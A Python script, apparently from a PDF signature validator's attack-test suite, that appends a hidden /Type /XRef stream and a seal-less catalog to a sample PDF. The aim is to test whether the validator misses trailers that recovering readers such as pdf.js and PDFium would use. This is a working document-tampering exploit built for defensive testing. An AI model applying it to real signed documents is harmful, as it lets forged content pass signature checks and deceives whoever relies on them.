# a29 R1: strayTrailers (src/input/pdf/unlisted.ts) looks for the keyword `trailer` only. A rebuilding reader also
# takes a trailer from a cross-reference STREAM's dictionary it finds by scanning (pdf.js indexObjects: every object
# with /XRef goes to xrefStms and is read in recovery mode; PDFium's RebuildCrossRef: a stream with /Type /XRef gives
# its dictionary as trailer). This update to samples/valid lists, in an honest table section, two unreferenced objects:
# a catalog without /AcroForm, /Perms or /Names (no seal, no attachments), and a /Type /XRef stream (valid rows) whose
# /Root names that catalog. No `trailer` keyword but the table's own.
#   python3 scripts/attack-s24/xref-stream-trailer.py [attack|control]; then verify the printed file
import re, struct, sys
mode = sys.argv[1] if len(sys.argv) > 1 else "attack"
src = open("samples/valid/archive.pdf", "rb").read()
prev = int(re.findall(rb"startxref\s+(\d+)", src)[-1])
out = bytearray(src)
if not out.endswith(b"\n"):
    out += b"\n"
root = b"26 0 R" if mode == "attack" else b"2 0 R"
o26 = len(out)
out += b"26 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\n" if mode == "attack" else b"26 0 obj\n<< /Type /Catalog /Pages 1 0 R /AcroForm 25 0 R >>\nendobj\n"
o27 = len(out)
rows = struct.pack(">BIH", 1, o26, 0) + struct.pack(">BIH", 1, o27, 0)
out += b"27 0 obj\n<< /Type /XRef /Size 28 /W [1 4 2] /Index [26 2] /Root " + root + b" /Length " + str(len(rows)).encode() + b" >>\nstream\n" + rows + b"\nendstream\nendobj\n"
xref = len(out)
out += b"xref\n0 1\n0000000000 65535 f \n26 2\n%010d 00000 n \n%010d 00000 n \n" % (o26, o27)
out += b"trailer\n<< /Size 28 /Root 2 0 R /Info 3 0 R /ID [<949aabb815fcdd0b2e839e7fbfd66afe> <949aabb815fcdd0b2e839e7fbfd66afe>] /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (prev, xref)
path = f"/tmp/a29-xrefstm-{mode}.pdf"
open(path, "wb").write(out)
print(path)
